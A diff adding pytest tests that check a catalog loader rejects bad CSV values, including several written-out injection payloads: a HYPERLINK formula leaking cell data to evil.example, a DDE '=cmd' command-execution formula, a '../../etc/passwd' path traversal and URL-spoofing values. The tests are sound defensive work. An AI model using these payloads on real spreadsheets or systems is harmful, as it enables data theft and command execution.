@@ -138,3 +138,53 @@ def test_catalog_must_be_utf8(project_copy: Layout) -> None:
 )
 def test_host_in_domains(host: str, domains: list[str], matches: bool) -> None:
     assert host_in_domains(host, domains) is matches
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ({"url": "https://[::1/x"}, r"line 2, field url: 'https://\[::1/x' is malformed"),
+        ({"url": "https://evil.com\\@lenta.ua/"}, "line 2, field url: .* backslash"),
+        ({"url": "https://lenta.ua@evil.com/"}, "line 2, field url: .* user name or password"),
+        ({"file": "../../etc/passwd"}, r"catalog/seeds\.csv line 2, field file: path .* points outside seeds/"),
+        ({"evidence": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'}, "line 2, field evidence: .* formula"),
+        ({"author": "+7 495 000"}, "line 2, field author: .* formula"),
+        ({"title": "@SUM(A1)"}, "line 2, field title: .* formula"),
+        ({"title": "-2+3"}, "line 2, field title: .* formula"),
+        ({"evidence": "\t=1+1"}, "line 2, field evidence: .* formula"),
+    ],
+    ids=["ipv6", "backslash", "userinfo", "outside", "hyperlink", "plus", "at", "minus", "tab"],
+)
+def test_malformed_urls_paths_and_formulas_are_named_with_their_line(
+    project_copy: Layout, change: dict[str, str], message: str
+) -> None:
+    rewrite_seed_rows(project_copy, change)
+    with pytest.raises((CatalogError, UnsafePathError), match=message):
+        load_catalog(project_copy.catalog, project_copy.seeds)
+
+
+def test_an_uppercase_url_is_accepted(project_copy: Layout) -> None:
+    rewrite_seed_rows(project_copy, {"url": "HTTPS://LENTA.UA/x"})
+    load_catalog(project_copy.catalog, project_copy.seeds)
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "message"),
+    [
+        ("domain", "https://lenta.ua/", "field domain: 'https://lenta.ua/' is not a domain name"),
+        ("domain", "www.lenta.ua", "field domain: 'www.lenta.ua' is not a domain name"),
+        ("other_domains", "lenta.ua evil/x", "field other_domains: 'evil/x' is not a domain name"),
+        ("name", "=cmd|' /C calc'!A0", "field name: .* formula"),
+    ],
+)
+def test_outlet_domains_and_formulas_are_checked(project_copy: Layout, column: str, value: str, message: str) -> None:
+    path = project_copy.catalog / "outlets.csv"
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    rows[-1][column] = value
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    with pytest.raises(CatalogError, match=rf"catalog/outlets\.csv line {len(rows) + 1}, {message}"):
+        load_catalog(project_copy.catalog, project_copy.seeds)
